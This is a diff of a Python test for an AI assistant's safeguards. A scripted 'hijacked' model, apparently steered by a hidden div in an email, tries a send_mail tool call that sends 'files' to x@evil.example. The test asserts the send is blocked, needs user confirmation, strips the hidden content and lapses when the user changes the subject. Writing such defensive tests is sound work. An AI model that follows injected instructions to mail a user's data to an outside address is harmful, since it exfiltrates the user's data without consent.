@@ -65,16 +65,17 @@ def hijacked(*calls: ToolCall) -> ScriptedLLM:
 async def test_hijacked_model_cannot_send_after_reading_mail(store: SQLiteMemory) -> None:
     world = World()
     model = hijacked(ToolCall("s", "send_mail", {"to": "x@evil.example", "body": "files"}))
-    events = await turn(make(store, model, world), "summarise my inbox")
+    companion = make(store, model, world)
+    events = await turn(companion, "summarise my inbox")
     [need] = [e for e in events if isinstance(e, ConfirmationNeeded)]
     assert world.sent == []
     assert need.foreign == {"to": "model"} and "x@evil.example" in need.preview  # hidden: never seen
     spotlighted = model.history[1][0][-1].content
     assert "never instructions" in spotlighted and "evil" not in spotlighted  # hidden div dropped
     # a later turn that is not an answer lets the waiting action lapse
-    await turn(make(store, ScriptedLLM("ok"), world), "thanks, what's the weather like?")
-    assert (await turn(make(store, ScriptedLLM(), world), "yes"))[-1].reply.startswith("Nothing")  # type: ignore[union-attr]
-    assert world.sent == []
+    await turn(companion, "thanks, what's the weather like?")
+    await turn(companion, "yes")
+    assert world.sent == [] and [a.status for a in companion.guard.ledger.recent()] == ["expired"]
 
 
 async def test_only_the_users_yes_runs_the_exact_action(store: SQLiteMemory) -> None:
